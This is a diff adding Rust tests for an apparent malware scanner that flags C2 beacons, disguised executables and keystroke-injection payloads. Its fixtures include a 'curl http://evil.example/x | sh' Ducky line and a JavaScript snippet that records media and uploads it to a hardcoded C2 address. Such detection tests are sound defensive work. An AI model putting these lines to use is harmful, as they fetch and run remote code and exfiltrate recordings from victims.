+        std::fs::write(&file, C2_PAYLOAD).unwrap();
+
+        let types = |findings: &[Finding]| {
+            let mut types: Vec<String> = findings.iter().map(|f| f.finding_type.clone()).collect();
+            types.sort();
+            types
+        };
+        let on_disk = scan_path(file.to_str().unwrap()).unwrap();
+        let report = scan_content_report("beacon.js", C2_PAYLOAD, &ScanOptions::default()).unwrap();
+        assert!(!on_disk.is_empty());
+        assert_eq!(types(report.findings()), types(&on_disk));
+        assert!(report.findings().iter().all(|f| f.location == "beacon.js"));
+        assert_eq!(report.run.unwrap().root, "beacon.js");
+
+        // Skills without an override go through a temporary file
+        let skill = detectors::ExtensionMismatchDetector::new();
+        let disguised = "MZ\u{90}\0\u{3}\0\0\0\u{4}\0";
+        let findings = skill.analyze_content("assets/logo.png", disguised).unwrap();
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].location, "assets/logo.png");
+    }
+
+    #[test]
+    fn test_cooccurring_findings_are_correlated() {
+        let dir = tempfile::tempdir().unwrap();
+        let beacon = "const c2 = 'http://203.0.113.7:4444';\nsetTimeout(upload, 600000);\n";
+        std::fs::write(dir.path().join("beacon.js"), beacon).unwrap();
+        let recorder = "const rec = new MediaRecorder(stream);\nrec.ondata = b => fetch(c2, b);\n";
+        std::fs::write(dir.path().join("implant.js"), format!("{}{}", recorder, beacon)).unwrap();
+        let path = dir.path().to_str().unwrap();
+
+        let report = scan_path_report(path).unwrap();
+        let correlated: Vec<_> = report
+            .findings()
+            .iter()
+            .filter(|f| f.finding_type == CORRELATED_THREAT)
+            .collect();
+        assert_eq!(correlated.len(), 1, "{:?}", correlated);
+        let threat = correlated[0];
+        assert!(threat.location.ends_with("implant.js"));
+        assert_eq!(threat.severity, Severity::Critical);
+        assert_eq!(threat.value["rule"], "surveillance_implant");
+        assert_eq!(threat.value["findings"].as_array().unwrap().len(), 3);
+        assert_eq!(report.skills[SCANNER].findings[0].location, threat.location);
+
+        // The beacon alone keeps its individual findings, and a config
+        // with its own rules replaces the built-in ones
+        assert!(report.findings().iter().any(|f| f.location.ends_with("beacon.js")));
+        let config = ScanConfig::from_toml(
+            "[[correlations]]\nname = \"beacon_on_timer\"\n\
+             requires = [\"hardcoded_public_ip\", \"long_timer_delay\"]\n\
+             emit = { type = \"timed_beacon\", severity = \"high\" }\n",
+        )
+        .unwrap();
+        let options = ScanOptions {
+            config: Some(config),
+            ..Default::default()
+        };
+        let output = scan_path_with_options(path, &options).unwrap();
+        let mut emitted: Vec<&str> = output
+            .findings
+            .iter()
+            .filter(|f| f.metadata["pattern"] == "correlation rule")
+            .map(|f| f.finding_type.as_str())
+            .collect();
+        emitted.dedup();
+        assert_eq!(emitted, ["timed_beacon"]);
+        assert_eq!(output.findings.iter().filter(|f| f.finding_type == "timed_beacon").count(), 2);
+    }
+
+    #[test]
+    fn test_in_test_fixture_matches_whole_components() {
+        let root = Path::new("/work/tests/project");
+        assert!(in_test_fixture(root, "/work/tests/project/tests/evil.js"));
+        assert!(in_test_fixture(root, "/work/tests/project/src/__tests__/a.js"));
+        assert!(in_test_fixture(root, "pkg/testdata/sample.bin"));
+        // The root's own ancestors don't count, nor do look-alike names
+        assert!(!in_test_fixture(root, "/work/tests/project/src/app.js"));
+        assert!(!in_test_fixture(root, "/work/tests/project/latest/app.js"));
+        assert!(!in_test_fixture(root, "/work/tests/project/src/tests.rs"));
+        assert!(!in_test_fixture(root, "/work/tests/project/specs/app.js"));
+    }
+
+    #[test]
+    fn test_fixture_findings_are_capped() {
+        let dir = tempfile::tempdir().unwrap();
+        let payload = "STRING curl http://evil.example/x | sh\n";
+        std::fs::create_dir_all(dir.path().join("fixtures")).unwrap();
+        std::fs::write(dir.path().join("fixtures/ducky.txt"), payload.repeat(5)).unwrap();
+        std::fs::write(dir.path().join("ducky.txt"), payload.repeat(5)).unwrap();
+
+        let scan = |no_test_downgrade| {
+            let options = ScanOptions {
+                no_test_downgrade,
+                ..Default::default()
+            };
+            scan_path_with_options(dir.path().to_str().unwrap(), &options).unwrap()
+        };
+
+        let output = scan(false);
+        let fixture: Vec<_> = output
+            .findings
+            .iter()
+            .filter(|f| f.location.contains("fixtures"))
+            .collect();
+        assert!(!fixture.is_empty());
+        assert!(fixture.iter().all(|f| f.severity <= Severity::Medium));
+        assert!(fixture.iter().all(|f| f.metadata["in_test_fixture"] == true));
+        assert!(output
+            .findings
+            .iter()
+            .any(|f| !f.location.contains("fixtures") && f.severity > Severity::Medium));
+
+        let output = scan(true);
+        assert!(output
+            .findings
+            .iter()
+            .any(|f| f.location.contains("fixtures") && f.severity > Severity::Medium));
+    }
+
+    #[test]
+    fn test_trusted_hashes_skip_analysis() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("vendored.js"), C2_PAYLOAD).unwrap();
+        std::fs::write(dir.path().join("app.js"), format!("{}\n", C2_PAYLOAD)).unwrap();
+        std::fs::write(dir.path().join(".env"), "SECRET=1").unwrap();
+
+        let listed = format!(
+            "{}\n{}\n",
+            trust::sha256_hex(C2_PAYLOAD.as_bytes()),
+            trust::sha256_hex(b"SECRET=1")
+        );
+        let options = ScanOptions {
+            trusted_hashes: Some(Arc::new(TrustedHashes::parse(&listed).unwrap())),
+            ..Default::default()
+        };
+        let output = scan_path_with_options(dir.path().to_str().unwrap(), &options).unwrap();
+
+        let trusted: Vec<_> = output
+            .findings
+            .iter()
+            .filter(|f| f.finding_type == "file_trusted")
+            .collect();
+        assert_eq!(trusted.len(), 2);
+        assert!(output.findings.iter().any(|f| f.location.ends_with("app.js")));
+        // Neither per-file nor tree-level detectors report on trusted files
+        assert!(output
+            .findings
+            .iter()
+            .filter(|f| !f.location.ends_with("app.js"))
+            .all(|f| f.finding_type == "file_trusted"));
+    }
+
+    fn rated(severity: Severity, confidence: f32) -> Finding {
+        Finding {
+            finding_type: "test".to_string(),
+            value: serde_json::json!({}),
+            confidence,
+            location: "x".to_string(),
+            severity,
+            metadata: serde_json::json!({}),
+        }
+    }
+
+    #[test]
+    fn test_risk_score_bounds_and_monotonicity() {
+        assert_eq!(risk_score(&[]), 0.0);
+
+        let mut findings = Vec::new();
+        let mut previous = 0.0;
+        for severity in Severity::ALL.into_iter().cycle().take(60) {
+            findings.push(rated(severity, 0.8));
+            let score = risk_score(&findings);
+            assert!(score >= previous, "{} < {}", score, previous);
+            assert!(score < 100.0);
+            previous = score;
+        }
+
+        // Adding a critical always raises the score
+        let with_critical = [findings.clone(), vec![rated(Severity::Critical, 0.9)]].concat();
+        assert!(risk_score(&with_critical) > risk_score(&findings));
+    }
+
+    #[test]
+    fn test_many_lows_do_not_outweigh_one_critical() {
+        let lows: Vec<Finding> = (0..50).map(|_| rated(Severity::Low, 1.0)).collect();
+        let critical = [rated(Severity::Critical, 0.9)];
+
+        assert!(risk_score(&lows) < risk_score(&critical));
+        assert_eq!(risk_score(&[rated(Severity::Info, 1.0)]), 0.0);
+    }
+
+    #[test]
+    fn test_dedup_keeps_most_confident_copy() {
+        let finding = |confidence: f32, severity: Severity| Finding {
+            finding_type: "hardcoded_public_ip".to_string(),
+            value: serde_json::json!({ "port": 4444, "ip": "203.0.113.7" }),
+            confidence,
+            location: "payload.js".to_string(),
+            severity,
+            metadata: serde_json::Value::Null,
+        };
+        let mut other = finding(0.8, Severity::Medium);
+        other.location = "other.js".to_string();
+
+        let deduped = dedup_findings(vec![
+            finding(0.7, Severity::Medium),
+            finding(0.9, Severity::High),
+            other,
+        ]);
+
+        assert_eq!(deduped.len(), 2);
+        let kept = deduped
+            .iter()
+            .find(|f| f.location == "payload.js")
+            .unwrap();
+        assert_eq!(kept.confidence, 0.9);
+    }
+
+    #[test]
+    fn test_scan_drops_duplicate_findings() {
+        let dir = tempfile::tempdir().unwrap();
+        // The same scaled constant twice yields two identical findings
+        std::fs::write(
+            dir.path().join("seed.py"),
+            "SEED = 31415926\nBACKUP_SEED = 31415926\n",
+        )
+        .unwrap();
+
+        let output = scan_path(dir.path().to_str().unwrap()).unwrap();
+        let seeds: Vec<_> = output
+            .iter()
+            .filter(|f| f.finding_type == "math_constant_seed")
+            .collect();
+
+        assert_eq!(seeds.len(), 1);
+    }
+
+    #[test]
+    fn test_time_budget_returns_partial_results() {
+        let dir = tempfile::tempdir().unwrap();
+        for i in 0..200 {
+            std::fs::write(dir.path().join(format!("beacon_{}.js", i)), C2_PAYLOAD).unwrap();
+        }
+        let path = dir.path().to_str().unwrap();
+
+        let full = scan_path_with_options(path, &ScanOptions::default()).unwrap();
+        assert!(full.complete);
+        assert_eq!(full.metadata["aborted_due_to_time_budget"], false);
+
+        // Run serially and stall after the tenth file until the budget is
+        // spent, so the scan stops partway through the tree
+        let budget = Duration::from_secs(2);
+        let started = Instant::now();
+        let options = ScanOptions {
+            time_budget: Some(budget),
+            serial: true,
+            progress: Some(Arc::new(move |progress: &ScanProgress<'_>| {
+                if progress.files_done == 10 {
+                    std::thread::sleep(budget.saturating_sub(started.elapsed()));
+                }
+            })),
+            ..Default::default()
+        };
+        let partial = scan_path_with_options(path, &options).unwrap();
+        assert!(!partial.complete);
+        assert_eq!(partial.metadata["aborted_due_to_time_budget"], true);
+        assert!(!partial.findings.is_empty());
+        assert!(partial.findings.len() < full.findings.len());
+        for finding in &partial.findings {
+            assert!(full
+                .findings
+                .iter()
+                .any(|f| f.finding_type == finding.finding_type && f.location == finding.location));
+        }
+    }
+
+    #[test]
+    fn test_progress_reports_each_file() {
+        use std::sync::Mutex;
+
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::create_dir(dir.path().join("nested")).unwrap();
+        std::fs::write(dir.path().join("a.txt"), "hello").unwrap();
+        std::fs::write(dir.path().join("nested/b.txt"), "world").unwrap();
+
+        let seen = Arc::new(Mutex::new(Vec::new()));
+        let sink = seen.clone();
+        let options = ScanOptions {
+            progress: Some(Arc::new(move |p: &ScanProgress<'_>| {
+                sink.lock().unwrap().push((p.files_done, p.files_total));
+            })),
+            ..Default::default()
+        };
+
+        let output = scan_path_with_options(dir.path().to_str().unwrap(), &options).unwrap();
+        assert!(output.complete);
+        assert_eq!(*seen.lock().unwrap(), vec![(1, 2), (2, 2)]);
+    }
+
+    #[test]
+    fn test_inapplicable_skills_are_skipped() {
+        let dir = tempfile::tempdir().unwrap();
+        let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
+        png.resize(72, 0);
+        std::fs::write(dir.path().join("logo.png"), &png).unwrap();
+        std::fs::write(dir.path().join("beacon.js"), "connect('203.0.113.9:4444')").unwrap();
+        let path = dir.path().to_str().unwrap();
+
+        let sniffed = scan_path_report_with_options(path, &ScanOptions::default()).unwrap();
+        let everything = ScanOptions {
+            all_skills: true,
+            ..Default::default()
+        };
+        let forced = scan_path_report_with_options(path, &everything).unwrap();
+
+        // SVG and audio never run on the PNG; steganography still does
+        assert_eq!(sniffed.aggregate.metadata["skills_skipped"], 2);
+        assert_eq!(forced.aggregate.metadata["skills_skipped"], 0);
+        let visited = |skill: &str| sniffed.skills[skill].metadata["files_visited"].clone();
+        assert_eq!(visited("detect_svg_injection"), 1);
+        assert_eq!(visited("detect_steganography"), 2);
+
+        let summary = |report: &ScanReport| -> Vec<(String, String)> {
+            let findings = report.findings().iter();
+            findings.map(|f| (f.finding_type.clone(), f.location.clone())).collect()
+        };
+        assert_eq!(summary(&sniffed), summary(&forced));
+    }
 }